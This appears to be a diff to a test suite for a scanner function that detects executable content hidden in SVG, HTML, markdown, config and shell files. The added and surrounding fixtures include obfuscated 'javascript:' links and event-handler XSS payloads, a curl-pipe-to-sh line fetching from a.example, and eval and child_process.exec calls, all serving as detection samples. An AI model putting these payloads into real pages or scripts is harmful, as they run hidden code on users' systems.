@@ -79,6 +79,7 @@ describe("GH-11a: what may run and no analyser reads", () => {
     ["a.svg", "<svg><a xlink:href=' java\nscript:go()'/></svg>"],
     ["a.svg", '<svg><animate attributeName="href" onbegin="go()"/></svg>'],
     ["a.svg", '<svg><use href="data:image/svg+xml;base64,AAAA#a"/></svg>'],
+    ["a.svg", '<svg><a href="&#106;avascript:go()"/></svg>'],
     ["a.html", "<iframe srcdoc='&lt;script>'>"],
   ])("finds what runs in %s: %s", (path, text) => {
     expect(holdsScripts(sourceFile(path, text))).toBe(true);
@@ -88,6 +89,8 @@ describe("GH-11a: what may run and no analyser reads", () => {
     ["notes.txt", "Words.\nMore (of them).\n", false],
     ["notes.txt", "/* Words. */ require('child_process').exec(x)\n", true],
     ["deploy", "set -e\ncurl https://a.example/x | sh\n", true],
+    ["page.md", "<!-- -->\neval(process.argv[2]);\n", true],
+    ["page.md", "# Words\n\nIt calls require('a') once.\nAnd more.\n", false],
     ["a.cfg", "[a]\nb = c\n", false],
     ["AUTHORS", "Ana <ana@example.com>\n", false],
     ["x", "#!/opt/strange\n", true],
